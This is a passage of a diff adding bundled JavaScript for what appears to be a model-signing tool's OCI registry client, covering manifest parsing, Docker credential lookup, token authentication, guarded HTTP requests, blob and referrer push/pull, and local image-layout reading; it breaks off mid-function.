+  if (keys.length > MAX_ANNOTATIONS_PER_DESCRIPTOR) bad4(what, `more than ${MAX_ANNOTATIONS_PER_DESCRIPTOR} annotations`);
+  for (const k2 of keys) {
+    const val = v2[k2];
+    if (typeof val !== "string") bad4(what, `annotation ${JSON.stringify(k2.slice(0, 100))} is not a string`);
+    out2[k2] = val;
+  }
+  return out2;
+}
+function parseDescriptor(v2, what) {
+  if (!isObject(v2)) bad4(what, "a descriptor is not an object");
+  const mediaType = str2(v2.mediaType, what, "mediaType", 255);
+  const digest = str2(v2.digest, what, "digest", 200);
+  if (!DIGEST.test(digest)) bad4(what, `digest ${JSON.stringify(digest.slice(0, 80))} is not sha256:<64 hex> or sha512:<128 hex>`);
+  const size = v2.size;
+  if (typeof size !== "number" || !Number.isSafeInteger(size) || size < 0) bad4(what, `size of ${digest} is not a whole number of bytes`);
+  const d = { mediaType, digest, size };
+  if (v2.artifactType !== void 0) d.artifactType = str2(v2.artifactType, what, "artifactType", 255);
+  const a = annotations(v2.annotations, what);
+  if (a) d.annotations = a;
+  return d;
+}
+function descriptors(v2, what, field) {
+  if (!Array.isArray(v2)) bad4(what, `${field} must be an array`);
+  if (v2.length > MAX_DESCRIPTORS) bad4(what, `more than ${MAX_DESCRIPTORS} ${field}`);
+  return v2.map((d) => parseDescriptor(d, what));
+}
+function parseManifest(bytes, contentType, what = "OCI manifest") {
+  if (bytes.length > MAX_MANIFEST_BYTES) bad4(what, `larger than ${MAX_MANIFEST_BYTES} bytes`);
+  let text;
+  try {
+    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+  } catch {
+    bad4(what, "not UTF-8");
+  }
+  const json = parseStrictJson(text, { what, code: "OCI_MANIFEST_MALFORMED", maxDepth: 16 });
+  if (!isObject(json)) bad4(what, "not a JSON object");
+  if (json.schemaVersion !== 2) bad4(what, "schemaVersion is not 2");
+  const header = contentType?.split(";")[0].trim();
+  const mediaType = json.mediaType === void 0 ? header : str2(json.mediaType, what, "mediaType", 255);
+  if (json.mediaType !== void 0 && header && header !== mediaType && header !== "application/json" && header !== "application/octet-stream") {
+    bad4(what, `its mediaType ${JSON.stringify(mediaType)} differs from the media type it was served as (${JSON.stringify(header.slice(0, 100))})`);
+  }
+  const isIndex = mediaType === MEDIA.ociIndex || mediaType === MEDIA.dockerList || mediaType === void 0 && json.manifests !== void 0;
+  if (isIndex) {
+    if (json.layers !== void 0) bad4(what, "an index with layers");
+    return { kind: "index", mediaType: mediaType ?? MEDIA.ociIndex, manifests: descriptors(json.manifests, what, "manifests") };
+  }
+  if (mediaType !== void 0 && mediaType !== MEDIA.ociManifest && mediaType !== MEDIA.dockerManifest) bad4(what, `unknown manifest media type ${JSON.stringify(mediaType.slice(0, 100))}`);
+  if (json.manifests !== void 0) bad4(what, "a manifest with an index's manifests list");
+  const m2 = {
+    kind: "manifest",
+    mediaType: mediaType ?? MEDIA.ociManifest,
+    config: parseDescriptor(json.config, what),
+    layers: descriptors(json.layers, what, "layers")
+  };
+  if (json.artifactType !== void 0) m2.artifactType = str2(json.artifactType, what, "artifactType", 255);
+  if (json.subject !== void 0) m2.subject = parseDescriptor(json.subject, what);
+  const a = annotations(json.annotations, what);
+  if (a) m2.annotations = a;
+  return m2;
+}
+function bundleManifest(bundle, subject, annotations2) {
+  const body = {
+    schemaVersion: 2,
+    mediaType: MEDIA.ociManifest,
+    artifactType: MEDIA.bundle,
+    config: { mediaType: MEDIA.empty, digest: "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", size: 2 },
+    layers: [bundle],
+    subject: { mediaType: subject.mediaType, digest: subject.digest, size: subject.size },
+    annotations: annotations2
+  };
+  return Buffer.from(JSON.stringify(body));
+}
+function indexOf(manifests) {
+  return Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: MEDIA.ociIndex, manifests }));
+}
+var MEDIA, MANIFEST_ACCEPT, EMPTY_CONFIG, MAX_MANIFEST_BYTES, MAX_DESCRIPTORS, MAX_ANNOTATIONS_PER_DESCRIPTOR, DIGEST;
+var init_manifest = __esm({
+  "src/oci/manifest.ts"() {
+    "use strict";
+    init_errors();
+    init_strict_json();
+    MEDIA = {
+      ociManifest: "application/vnd.oci.image.manifest.v1+json",
+      ociIndex: "application/vnd.oci.image.index.v1+json",
+      dockerManifest: "application/vnd.docker.distribution.manifest.v2+json",
+      dockerList: "application/vnd.docker.distribution.manifest.list.v2+json",
+      empty: "application/vnd.oci.empty.v1+json",
+      bundle: "application/vnd.dev.sigstore.bundle.v0.3+json",
+      modelManifest: "application/vnd.cncf.model.manifest.v1+json"
+    };
+    MANIFEST_ACCEPT = [MEDIA.ociManifest, MEDIA.ociIndex, MEDIA.dockerManifest, MEDIA.dockerList].join(", ");
+    EMPTY_CONFIG = Buffer.from("{}");
+    MAX_MANIFEST_BYTES = 4 * 1024 * 1024;
+    MAX_DESCRIPTORS = 1e5;
+    MAX_ANNOTATIONS_PER_DESCRIPTOR = 256;
+    DIGEST = /^(?:sha256:[0-9a-f]{64}|sha512:[0-9a-f]{128})$/;
+  }
+});
+
+// src/oci/auth.ts
+import { spawn } from "node:child_process";
+import path17 from "node:path";
+function normaliseRegistryKey(key) {
+  const s3 = key.replace(/^[a-z][a-z0-9+.-]*:\/\//i, "");
+  const host = s3.split("/")[0].toLowerCase();
+  return DOCKER_HUB_HOSTS.has(host) ? "docker.io" : host;
+}
+function configError(file, why2) {
+  throw usage("REGISTRY_AUTH_CONFIG", `cannot use the Docker configuration ${file}: ${why2}`);
+}
+async function readConfig(file) {
+  let bytes;
+  try {
+    bytes = await readRegularFile(file, MAX_CONFIG_BYTES);
+  } catch (e) {
+    if (errnoCode(e) === "ENOENT") return void 0;
+    configError(file, e instanceof FileTooLarge ? `larger than ${MAX_CONFIG_BYTES} bytes` : `unreadable (${errnoCode(e) ?? "not a regular file"})`);
+  }
+  let json;
+  try {
+    json = parseStrictJson(bytes.toString("utf8"), { what: "Docker configuration" });
+  } catch {
+    configError(file, "not valid JSON");
+  }
+  if (!isObject(json)) configError(file, "not a JSON object");
+  return json;
+}
+function authsEntry(config, registry, secrets, file) {
+  const auths = config.auths;
+  if (!isObject(auths)) return void 0;
+  for (const key of Object.keys(auths)) {
+    if (normaliseRegistryKey(key) !== registry) continue;
+    const e = auths[key];
+    if (!isObject(e)) continue;
+    if (typeof e.identitytoken === "string" && e.identitytoken !== "") {
+      secrets.add(e.identitytoken);
+      return { kind: "identity-token", token: e.identitytoken };
+    }
+    if (typeof e.auth === "string" && e.auth !== "") {
+      secrets.add(e.auth);
+      const plain = Buffer.from(e.auth, "base64").toString("utf8");
+      const colon = plain.indexOf(":");
+      if (colon < 0) configError(file, `the auths entry for ${registry} is not base64 of user:password`);
+      const cred = { kind: "basic", username: plain.slice(0, colon), password: plain.slice(colon + 1) };
+      secrets.addBasic(cred.username, cred.password);
+      return cred;
+    }
+    if (typeof e.username === "string" && typeof e.password === "string") {
+      secrets.addBasic(e.username, e.password);
+      return { kind: "basic", username: e.username, password: e.password };
+    }
+  }
+  return void 0;
+}
+async function runHelper(name2, server, secrets) {
+  if (!/^[A-Za-z0-9._-]{1,64}$/.test(name2)) throw usage("REGISTRY_AUTH_CONFIG", `credential helper name ${JSON.stringify(name2.slice(0, 80))} is not a plain name`);
+  const program2 = `docker-credential-${name2}`;
+  const r = await new Promise((resolve) => {
+    const child = spawn(program2, ["get"], { stdio: ["pipe", "pipe", "ignore"] });
+    let out2 = "";
+    let over = false;
+    const timer = setTimeout(() => child.kill("SIGKILL"), HELPER_TIMEOUT_MS);
+    child.stdout.on("data", (d) => {
+      if (out2.length + d.length > MAX_HELPER_OUTPUT) {
+        over = true;
+        child.kill("SIGKILL");
+      } else out2 += d.toString("utf8");
+    });
+    child.on("error", (e) => {
+      clearTimeout(timer);
+      resolve({ code: null, out: "", error: errnoCode(e) ?? "cannot run" });
+    });
+    child.on("close", (code, signal) => {
+      clearTimeout(timer);
+      resolve(over ? { code: null, out: "", error: "too much output" } : signal ? { code: null, out: "", error: `killed (${signal}; ${HELPER_TIMEOUT_MS / 1e3} s limit)` } : { code, out: out2 });
+    });
+    child.stdin.on("error", () => void 0);
+    child.stdin.end(server);
+  });
+  if (r.error) throw usage("REGISTRY_AUTH_CONFIG", `credential helper ${program2} failed: ${r.error === "ENOENT" ? "not found on PATH" : r.error}`);
+  if (r.code !== 0) {
+    if (/credentials not found/i.test(r.out)) return void 0;
+    throw usage("REGISTRY_AUTH_CONFIG", `credential helper ${program2} failed (exit ${r.code})`);
+  }
+  let json;
+  try {
+    json = JSON.parse(r.out);
+  } catch {
+    throw usage("REGISTRY_AUTH_CONFIG", `credential helper ${program2} printed something that is not JSON`);
+  }
+  if (!isObject(json) || typeof json.Secret !== "string" || typeof json.Username !== "string") throw usage("REGISTRY_AUTH_CONFIG", `credential helper ${program2} printed no Username and Secret`);
+  secrets.add(json.Secret);
+  if (json.Username === "<token>") return { kind: "identity-token", token: json.Secret };
+  secrets.addBasic(json.Username, json.Secret);
+  return { kind: "basic", username: json.Username, password: json.Secret };
+}
+async function credentialFor(configDir, registry, secrets) {
+  if (configDir === void 0) return void 0;
+  const file = path17.join(configDir, "config.json");
+  const config = await readConfig(file);
+  if (!config) return void 0;
+  const key = normaliseRegistryKey(registry);
+  const server = key === "docker.io" ? DOCKER_HUB_KEY : key;
+  const helpers = config.credHelpers;
+  const helper = isObject(helpers) ? Object.keys(helpers).find((k2) => normaliseRegistryKey(k2) === key) : void 0;
+  const name2 = helper !== void 0 ? isObject(helpers) ? helpers[helper] : void 0 : config.credsStore;
+  if (typeof name2 === "string" && name2 !== "") {
+    const c = await runHelper(name2, server, secrets);
+    if (c) return c;
+  }
+  return authsEntry(config, key, secrets, file);
+}
+function parseChallenge(header) {
+  const m2 = /^\s*([A-Za-z][A-Za-z0-9!#$%&'*+.^_`|~-]*)(?:\s+|$)/.exec(header);
+  if (!m2) return void 0;
+  const params = /* @__PURE__ */ Object.create(null);
+  let i = m2[0].length;
+  const s3 = header;
+  while (i < s3.length) {
+    const km = /^\s*([A-Za-z][A-Za-z0-9_-]*)\s*=\s*/.exec(s3.slice(i));
+    if (!km) break;
+    i += km[0].length;
+    let value = "";
+    if (s3[i] === '"') {
+      i++;
+      while (i < s3.length && s3[i] !== '"') {
+        if (s3[i] === "\\" && i + 1 < s3.length) i++;
+        value += s3[i];
+        i++;
+      }
+      i++;
+    } else {
+      const vm = /^[^,\s]*/.exec(s3.slice(i));
+      value = vm[0];
+      i += value.length;
+    }
+    params[km[1].toLowerCase()] = value;
+    const sep = /^\s*,?\s*/.exec(s3.slice(i));
+    i += sep[0].length;
+    if (sep[0].trim() !== ",") break;
+  }
+  return { scheme: m2[1].toLowerCase(), params };
+}
+var MAX_CONFIG_BYTES, MAX_HELPER_OUTPUT, HELPER_TIMEOUT_MS, DOCKER_HUB_KEY, DOCKER_HUB_HOSTS;
+var init_auth = __esm({
+  "src/oci/auth.ts"() {
+    "use strict";
+    init_errors();
+    init_read_file();
+    init_strict_json();
+    MAX_CONFIG_BYTES = 1024 * 1024;
+    MAX_HELPER_OUTPUT = 64 * 1024;
+    HELPER_TIMEOUT_MS = 1e4;
+    DOCKER_HUB_KEY = "https://index.docker.io/v1/";
+    DOCKER_HUB_HOSTS = /* @__PURE__ */ new Set(["docker.io", "index.docker.io", "registry-1.docker.io"]);
+  }
+});
+
+// src/oci/http.ts
+import { Readable as Readable2 } from "node:stream";
+function schemeFor(cfg, host) {
+  return cfg.insecure.has(host) ? "http" : "https";
+}
+function say(cfg, text) {
+  return clean(cfg.secrets.scrub(text), 400);
+}
+function unreachable(cfg, url, e, idle) {
+  if (idle) return usage("REGISTRY_UNREACHABLE", say(cfg, `registry ${url.host} sent nothing for ${cfg.idleTimeoutMs / 1e3} s (${url.pathname})`));
+  const cause = e instanceof Error ? e.cause : void 0;
+  const why2 = cause?.code ?? cause?.message ?? (e instanceof Error ? e.message : String(e));
+  const hint = /EPROTO|wrong version number|ERR_SSL|packet length/i.test(why2) && url.protocol === "https:" ? ` (a plain-HTTP registry needs --insecure-registry ${url.host})` : "";
+  return usage("REGISTRY_UNREACHABLE", say(cfg, `cannot reach registry ${url.host}: ${why2}${hint}`));
+}
+function redirectTarget(cfg, from, location) {
+  let to2;
+  try {
+    to2 = new URL(location, from);
+  } catch {
+    throw usage("REGISTRY_ERROR", say(cfg, `registry ${from.host} redirected to an unparsable location`));
+  }
+  if (to2.protocol !== "https:" && to2.protocol !== "http:") throw usage("REGISTRY_ERROR", say(cfg, `registry ${from.host} redirected to a ${to2.protocol} location`));
+  if (to2.protocol === "http:" && !cfg.insecure.has(to2.host)) throw usage("REGISTRY_ERROR", say(cfg, `registry ${from.host} redirected to plain HTTP at ${to2.host} (not an --insecure-registry)`));
+  if (to2.username || to2.password) throw usage("REGISTRY_ERROR", say(cfg, `registry ${from.host} redirected to a location with credentials in it`));
+  return to2;
+}
+async function send(cfg, url, init) {
+  let current = url;
+  for (let hop = 0; ; hop++) {
+    const ctl = new AbortController();
+    let idle = false;
+    let timer;
+    const touch = () => {
+      clearTimeout(timer);
+      timer = setTimeout(() => {
+        idle = true;
+        ctl.abort();
+      }, cfg.idleTimeoutMs);
+    };
+    const close = () => {
+      clearTimeout(timer);
+      ctl.abort();
+    };
+    const headers = { "user-agent": "modelsign", ...init.headers };
+    if (init.auth && init.auth.origin === current.origin) headers.authorization = init.auth.header;
+    touch();
+    let res;
+    try {
+      res = await fetch(current, {
+        method: init.method,
+        headers,
+        redirect: "manual",
+        signal: ctl.signal,
+        ...init.body ? { body: init.body } : {}
+      });
+    } catch (e) {
+      close();
+      throw unreachable(cfg, current, e, idle);
+    }
+    const location = res.headers.get("location");
+    if ([301, 302, 303, 307, 308].includes(res.status) && location !== null && (init.method === "GET" || init.method === "HEAD")) {
+      close();
+      if (hop >= MAX_REDIRECTS) throw usage("REGISTRY_ERROR", say(cfg, `registry ${url.host} redirected more than ${MAX_REDIRECTS} times`));
+      current = redirectTarget(cfg, current, location);
+      continue;
+    }
+    const at2 = current;
+    const fail = (e) => {
+      throw unreachable(cfg, at2, e, idle);
+    };
+    return { status: res.status, headers: res.headers, url: current, body: res.body, close, touch, fail };
+  }
+}
+async function nextChunk(cfg, reply, reader) {
+  let r;
+  try {
+    r = await reader.read();
+  } catch (e) {
+    reply.close();
+    reply.fail(e);
+  }
+  if (r.done) return void 0;
+  reply.touch();
+  cfg.received.bytes += r.value.length;
+  return r.value;
+}
+async function readBody(cfg, reply, max, what) {
+  const declared = Number(reply.headers.get("content-length") ?? NaN);
+  if (declared > max) {
+    reply.close();
+    throw reject("OCI_TOO_LARGE", say(cfg, `${what} from ${reply.url.host} is ${declared} bytes, more than the ${max} read`));
+  }
+  const parts = [];
+  let n = 0;
+  if (reply.body) {
+    const reader = reply.body.getReader();
+    for (; ; ) {
+      const c = await nextChunk(cfg, reply, reader);
+      if (!c) break;
+      n += c.length;
+      if (n > max) {
+        reply.close();
+        throw reject("OCI_TOO_LARGE", say(cfg, `${what} from ${reply.url.host} is larger than the ${max} bytes read`));
+      }
+      parts.push(c);
+    }
+  }
+  reply.close();
+  return Buffer.concat(parts);
+}
+async function errorCode(cfg, reply) {
+  if (reply.status === 304 || !reply.body) {
+    reply.close();
+    return "";
+  }
+  let body;
+  try {
+    body = await readBody(cfg, reply, MAX_ERROR_BODY, "error body");
+  } catch {
+    return "";
+  }
+  try {
+    const j2 = JSON.parse(body.toString("utf8"));
+    const code = j2.errors?.[0]?.code;
+    return typeof code === "string" && /^[A-Z_]{1,40}$/.test(code) ? ` ${code}` : "";
+  } catch {
+    return "";
+  }
+}
+function verifiedBody(cfg, reply, desc) {
+  const reader = reply.body?.getReader();
+  const raw = new Readable2({
+    highWaterMark: 1024 * 1024,
+    read() {
+      void (async () => {
+        try {
+          const c = reader ? await nextChunk(cfg, reply, reader) : void 0;
+          if (c === void 0) {
+            reply.close();
+            this.push(null);
+          } else {
+            this.push(Buffer.from(c.buffer, c.byteOffset, c.byteLength));
+          }
+        } catch (e) {
+          this.destroy(e instanceof Error ? e : new Error(String(e)));
+        }
+      })();
+    },
+    destroy(err, cb) {
+      reply.close();
+      cb(err);
+    }
+  });
+  return checked(raw, desc, reply.url.host);
+}
+var MAX_REDIRECTS, MAX_ERROR_BODY;
+var init_http = __esm({
+  "src/oci/http.ts"() {
+    "use strict";
+    init_errors();
+    init_one_line();
+    init_digest_check();
+    MAX_REDIRECTS = 5;
+    MAX_ERROR_BODY = 16 * 1024;
+  }
+});
+
+// src/oci/store.ts
+function describe3(bytes, mediaType, digestHex) {
+  return { mediaType, digest: `sha256:${digestHex}`, size: bytes.length };
+}
+var init_store2 = __esm({
+  "src/oci/store.ts"() {
+    "use strict";
+  }
+});
+
+// src/oci/registry.ts
+import { createHash as createHash6 } from "node:crypto";
+function nextPage(link, from) {
+  const m2 = link ? /<([^>]+)>\s*;\s*rel="?next"?/.exec(link) : null;
+  if (!m2) return void 0;
+  try {
+    const u2 = new URL(m2[1], from);
+    return u2.origin === from.origin ? u2 : void 0;
+  } catch {
+    return void 0;
+  }
+}
+function fetched(bytes, mediaType, expect, where2) {
+  const alg = expect?.startsWith("sha512:") ? "sha512" : "sha256";
+  const digest = `${alg}:${createHash6(alg).update(bytes).digest("hex")}`;
+  if (expect !== void 0 && digest !== expect) throw reject("OCI_DIGEST_MISMATCH", `manifest ${expect} from ${where2} does not match its digest (its bytes hash to ${digest})`);
+  return { digest, mediaType, bytes };
+}
+var MAX_TOKEN_BYTES, MAX_REFERRER_PAGES, Registry;
+var init_registry = __esm({
+  "src/oci/registry.ts"() {
+    "use strict";
+    init_errors();
+    init_auth();
+    init_http();
+    init_manifest();
+    init_store2();
+    MAX_TOKEN_BYTES = 64 * 1024;
+    MAX_REFERRER_PAGES = 8;
+    Registry = class {
+      constructor(ref, cfg) {
+        this.ref = ref;
+        this.cfg = cfg;
+        this.where = `oci://${ref.registry}/${ref.repository}`;
+        this.origin = `${schemeFor(cfg, ref.registry)}://${ref.registry}`;
+        this.base = `${this.origin}/v2/${ref.repository}`;
+      }
+      where;
+      origin;
+      base;
+      auth;
+      cred;
+      async credential() {
+        if (this.cred === void 0) this.cred = await credentialFor(this.cfg.dockerConfigDir, this.ref.registry, this.cfg.secrets) ?? null;
+        return this.cred ?? void 0;
+      }
+      denied(status, had) {
+        const why2 = had ? "with the credentials from the Docker configuration" : `and there are no credentials for ${this.ref.registry} in the Docker configuration (docker login ${this.ref.registry})`;
+        throw usage("REGISTRY_DENIED", say(this.cfg, `registry ${this.ref.registry} refused access to ${this.ref.repository} (HTTP ${status}) ${why2}`));
+      }
+      /** A Bearer token for the challenge's realm and scope. */
+      async token(ch, scope, cred) {
+        const realmText = ch.params.realm;
+        let realm;
+        try {
+          realm = new URL(realmText ?? "");
+        } catch {
+          throw usage("REGISTRY_ERROR", say(this.cfg, `registry ${this.ref.registry} named no usable token realm`));
+        }
+        if (realm.protocol !== "https:" && !(realm.protocol === "http:" && this.cfg.insecure.has(realm.host))) {
+          throw usage("REGISTRY_ERROR", say(this.cfg, `registry ${this.ref.registry} asks for a token from ${realm.protocol}//${realm.host}, which is neither https nor an --insecure-registry`));
+        }
+        const wanted = ch.params.scope ?? `repository:${this.ref.repository}:${scope === "push" ? "pull,push" : "pull"}`;
+        const init = { method: "GET", headers: { accept: "application/json" } };
+        if (cred?.kind === "identity-token") {
+          const form = new URLSearchParams({ grant_type: "refresh_token", refresh_token: cred.token, client_id: "modelsign", scope: wanted, ...ch.params.service ? { service: ch.params.service } : {} });
+          init.method = "POST";
+          init.headers = { ...init.headers, "content-type": "application/x-www-form-urlencoded" };
+          init.body = Buffer.from(form.toString());
+        } else {
+          if (ch.params.service) realm.searchParams.set("service", ch.params.service);
+          realm.searchParams.set("scope", wanted);
+          if (cred) init.auth = { origin: realm.origin, header: `Basic ${Buffer.from(`${cred.username}:${cred.password}`).toString("base64")}` };
+        }
+        const reply = await send(this.cfg, realm, init);
+        if (reply.status === 401 || reply.status === 403) {
+          reply.close();
+          this.denied(reply.status, cred !== void 0);
+        }
+        if (reply.status !== 200) throw usage("REGISTRY_ERROR", say(this.cfg, `token service ${realm.host} answered HTTP ${reply.status}${await errorCode(this.cfg, reply)}`));
+        const body = await readBody(this.cfg, reply, MAX_TOKEN_BYTES, "token response");
+        let tok;
+        try {
+          const j2 = JSON.parse(body.toString("utf8"));
+          tok = j2.access_token ?? j2.token;
+        } catch {
+          tok = void 0;
+        }
+        if (typeof tok !== "string" || tok === "" || !/^[\x21-\x7e]+$/.test(tok)) throw usage("REGISTRY_ERROR", say(this.cfg, `token service ${realm.host} sent no usable token`));
+        this.cfg.secrets.add(tok);
+        return `Bearer ${tok}`;
+      }
+      /** Answer a 401's challenge: the Authorization header to retry with. */
+      async authenticate(header, scope, status) {
+        const ch = parseChallenge(header ?? "");
+        const cred = await this.credential();
+        if (ch?.scheme === "bearer") return this.token(ch, scope, cred);
+        if (ch?.scheme === "basic" && cred?.kind === "basic") return `Basic ${Buffer.from(`${cred.username}:${cred.password}`).toString("base64")}`;
+        this.denied(status, cred !== void 0);
+      }
+      /** A request to the registry, authenticated on its challenge (once per request). */
+      async call(url, init, scope = "pull") {
+        const withAuth = () => this.auth ? { ...init, auth: { origin: this.origin, header: this.auth } } : init;
+        let reply = await send(this.cfg, url, withAuth());
+        if (reply.status === 401) {
+          const challenge = reply.headers.get("www-authenticate");
+          reply.close();
+          this.auth = await this.authenticate(challenge, scope, 401);
+          reply = await send(this.cfg, url, withAuth());
+        }
+        if (reply.status === 401 || reply.status === 403) {
+          reply.close();
+          this.denied(reply.status, await this.credential() !== void 0);
+        }
+        return reply;
+      }
+      async unexpected(reply, what) {
+        throw usage("REGISTRY_ERROR", say(this.cfg, `registry ${this.ref.registry} answered HTTP ${reply.status}${await errorCode(this.cfg, reply)} for ${what}`));
+      }
+      async manifest(ref) {
+        const name2 = ref.digest ?? ref.tag;
+        const reply = await this.call(new URL(`${this.base}/manifests/${name2}`), { method: "GET", headers: { accept: MANIFEST_ACCEPT } });
+        if (reply.status === 404) {
+          reply.close();
+          throw usage("MODEL_NOT_FOUND", say(this.cfg, `model not found: ${this.where} has no manifest ${name2}`));
+        }
+        if (reply.status !== 200) return this.unexpected(reply, `manifest ${name2}`);
+        const bytes = await readBody(this.cfg, reply, MAX_MANIFEST_BYTES, `manifest ${name2}`);
+        return fetched(bytes, reply.headers.get("content-type") ?? void 0, ref.digest, this.where);
+      }
+      async blob(desc) {
+        const reply = await this.call(new URL(`${this.base}/blobs/${desc.digest}`), { method: "GET" });
+        if (reply.status !== 200) {
+          const code = await errorCode(this.cfg, reply);
+          throw reject("OCI_BLOB_UNREADABLE", say(this.cfg, `blob ${desc.digest} of ${this.where}: HTTP ${reply.status}${code}`));
+        }
+        return verifiedBody(this.cfg, reply, desc);
+      }
+      async referrers(digest) {
+        const out2 = [];
+        let url = new URL(`${this.base}/referrers/${digest}`);
+        url.searchParams.set("artifactType", MEDIA.bundle);
+        for (let page = 0; url && page < MAX_REFERRER_PAGES; page++) {
+          const reply = await this.call(url, { method: "GET", headers: { accept: MEDIA.ociIndex } });
+          if (page === 0 && [400, 404, 405, 501].includes(reply.status)) {
+            reply.close();
+            return this.taggedReferrers(digest);
+          }
+          if (reply.status !== 200) return this.unexpected(reply, `the referrers of ${digest}`);
+          const body = await readBody(this.cfg, reply, MAX_MANIFEST_BYTES, `referrers of ${digest}`);
+          const idx = parseManifest(body, reply.headers.get("content-type") ?? MEDIA.ociIndex, `referrers list of ${digest}`);
+          if (idx.kind !== "index") throw reject("OCI_MANIFEST_MALFORMED", `the referrers list of ${digest} is not an index`);
+          for (const d of idx.manifests) out2.push(d);
+          url = nextPage(reply.headers.get("link"), reply.url);
+        }
+        return out2;
+      }
+      fallbackTag(digest) {
+        return digest.replace(":", "-");
+      }
+      async taggedReferrers(digest) {
+        const tag = this.fallbackTag(digest);
+        const reply = await this.call(new URL(`${this.base}/manifests/${tag}`), { method: "GET", headers: { accept: MEDIA.ociIndex } });
+        if (reply.status === 404) {
+          reply.close();
+          return [];
+        }
+        if (reply.status !== 200) return this.unexpected(reply, `the referrers tag ${tag}`);
+        const body = await readBody(this.cfg, reply, MAX_MANIFEST_BYTES, `referrers tag ${tag}`);
+        const idx = parseManifest(body, reply.headers.get("content-type") ?? void 0, `referrers tag ${tag}`);
+        if (idx.kind !== "index") throw reject("OCI_MANIFEST_MALFORMED", `the referrers tag ${tag} does not hold an index`);
+        return idx.manifests;
+      }
+      async pushBlob(bytes) {
+        const hex = createHash6("sha256").update(bytes).digest("hex");
+        const d = describe3(bytes, "application/octet-stream", hex);
+        const head = await this.call(new URL(`${this.base}/blobs/${d.digest}`), { method: "HEAD" }, "push");
+        head.close();
+        if (head.status === 200) return d;
+        const start = await this.call(new URL(`${this.base}/blobs/uploads/`), { method: "POST", headers: { "content-length": "0" } }, "push");
+        const location = start.headers.get("location");
+        if (start.status !== 202 || !location) return this.unexpected(start, "a blob upload");
+        start.close();
+        const put = new URL(location, this.origin);
+        if (put.origin !== this.origin) throw usage("REGISTRY_ERROR", say(this.cfg, `registry ${this.ref.registry} sent the upload to another host (${put.host})`));
+        put.searchParams.set("digest", d.digest);
+        const done = await this.call(put, { method: "PUT", headers: { "content-type": "application/octet-stream" }, body: bytes }, "push");
+        if (done.status !== 201) return this.unexpected(done, `the upload of ${d.digest}`);
+        done.close();
+        return d;
+      }
+      async putManifest(name2, bytes, mediaType) {
+        const reply = await this.call(new URL(`${this.base}/manifests/${name2}`), { method: "PUT", headers: { "content-type": mediaType }, body: bytes }, "push");
+        if (reply.status !== 201 && reply.status !== 200) return this.unexpected(reply, `manifest ${name2}`);
+        reply.close();
+        return reply;
+      }
+      async pushReferrer(manifest, subject, listed) {
+        const put = await this.putManifest(listed.digest, manifest, MEDIA.ociManifest);
+        if (put.headers.get("oci-subject") === subject.digest) return;
+        const tag = this.fallbackTag(subject.digest);
+        const current = await this.taggedReferrers(subject.digest);
+        if (current.some((d) => d.digest === listed.digest)) return;
+        await this.putManifest(tag, indexOf([...current, listed]), MEDIA.ociIndex);
+      }
+    };
+  }
+});
+
+// src/oci/layout.ts
+import { constants as constants6 } from "node:fs";
+import { open as open6, stat as stat8 } from "node:fs/promises";
+import path18 from "node:path";
+import { createHash as createHash7 } from "node:crypto";
+var REF_NAME, MAX_REFERRER_CANDIDATES, Layout;
+var init_layout = __esm({
+  "src/oci/layout.ts"() {
+    "use strict";
+    init_errors();
+    init_read_file();
+    init_write_atomic();
+    init_digest_check();
+    init_manifest();
+    init_registry();
+    REF_NAME = "org.opencontainers.image.ref.name";
+    MAX_REFERRER_CANDIDATES = 1e3;
+    Layout = class {
+      constructor(ref, received) {
+        this.ref = ref;
+        this.received = received;
+        this.where = `oci:${ref.dir}`;
+      }
+      where;
+      blobPath(digest) {
+        if (!isDigest(digest)) throw reject("OCI_MANIFEST_MALFORMED", `not a digest: ${JSON.stringify(digest.slice(0, 80))}`);
+        const [alg, hex] = digest.split(":");
+        return path18.join(this.ref.dir, "blobs", alg, hex);
+      }
+      /** The layout's index.json; MODEL_NOT_FOUND when DIR is not a layout. */
+      async index() {
+        const file = path18.join(this.ref.dir, "index.json");
+        try {
+          await stat8(path18.join(this.ref.dir, "oci-layout"));
+        } catch {
+          throw usage("MODEL_NOT_FOUND", `model not found: ${this.ref.dir} is not an OCI image layout (no oci-layout file)`);
+        }
+        let bytes;
+        try {
+          bytes = await readRegularFile(file, MAX_MANIFEST_BYTES, { noFollow: true });
+        } catch (e) {
+          throw usage("MODEL_NOT_FOUND", `model not found: cannot read ${file}: ${e instanceof FileTooLarge ? "too large" : e instanceof NotRegularFile ? "not a regular file" : errnoCode(e) ?? String(e)}`);
+        }
+        const idx = parseManifest(bytes, MEDIA.ociIndex, `${file}`);
+        if (idx.kind !== "index") throw reject("OCI_MANIFEST_MALFORMED", `${file} is not an image index`);
+        return idx;
+      }
+      async manifest(ref) {
+        let digest = ref.digest;
+        let mediaType;
+        if (digest === void 0) {
+          const entries = (await this.index()).manifests;
+          const named = ref.tag === void 0 ? entries : entries.filter((d) => d.annotations?.[REF_NAME] === ref.tag);
+          if (named.length === 0) throw usage("MODEL_NOT_FOUND", `model not found: ${this.where} has no manifest tagged ${JSON.stringify(ref.tag)}`);
+          if (named.length > 1) {
+            throw usage("OCI_BAD_REFERENCE", ref.tag === void 0 ? `${this.where} holds ${named.length} manifests: name one as oci:DIR:TAG` : `${this.where} has ${named.length} manifests tagged ${JSON.stringify(ref.tag)}`);
+          }
+          digest = named[0].digest;
+          mediaType = named[0].mediaType;
+        }
+        const bytes = await this.readSmall(digest, MAX_MANIFEST_BYTES);
+        return fetched(bytes, mediaType, digest, this.where);
+      }
+      async readSmall(digest, max) {
+        const file = this.blobPath(digest);
+        try {
+          const b2 = await readRegularFile(file, max, { noFollow: true });
+          this.received.bytes += b2.length;
+          return b2;
+        } catch (e) {
+          if (errnoCode(e) === "ENOENT") throw usage("MODEL_NOT_FOUND", `model not found: ${this.where} has no blob ${digest}`);
+          if (e instanceof FileTooLarge) throw reject("OCI_TOO_LARGE", `blob ${digest} of ${this.where} is larger than ${max} bytes`);
+          throw reject("OCI_BLOB_UNREADABLE", `blob ${digest} of ${this.where}: ${e instanceof NotRegularFile ? "not a regular file" : errnoCode(e) ?? String(e)}`);
+        }
+      }
+      async blob(desc) {
+        const file = this.blobPath(desc.digest);
+        let fh;
+        try {
+          fh = await open6(file, constants6.O_RDONLY | constants6.O_NOFOLLOW | constants6.O_NONBLOCK);
+        } catch (e) {
